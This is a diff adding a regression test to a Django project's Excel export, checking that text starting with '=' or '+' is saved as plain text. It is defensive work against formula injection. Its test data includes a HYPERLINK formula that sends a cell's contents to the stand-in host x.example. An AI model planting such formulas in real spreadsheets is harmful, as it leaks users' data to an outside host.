@@ -78,3 +78,18 @@ def test_a_querysets_export_reads_one_row_before_the_download_starts(db, django_
     with django_assert_num_queries(1):
         response = xlsx_response("部门", [("name", "名称")], Department.objects.order_by("pk"))
     assert _read(response).max_row == 1 + Department.objects.count()
+
+
+def test_a_workbook_openpyxl_built_writes_no_text_as_a_formula():
+    """Issue 26 leftover: openpyxl makes any text starting with "=" a formula, so a guide's note or a request's
+    description "=HYPERLINK(...)" typed by someone ran in the exporting clerk's Excel. The catalogue export and the
+    annual report are built this way."""
+    from openpyxl import Workbook
+
+    from zhengtong.core.excel import workbook_response
+
+    book = Workbook()
+    book.active.append(['=HYPERLINK("http://x.example/?"&A2,"点此")', "+1+1", 3])
+    saved = load_workbook(io.BytesIO(workbook_response("清单", book).content)).active
+    assert [c.data_type for c in saved[1]] == ["s", "s", "n"]
+    assert saved.cell(1, 1).value.startswith("=HYPERLINK")
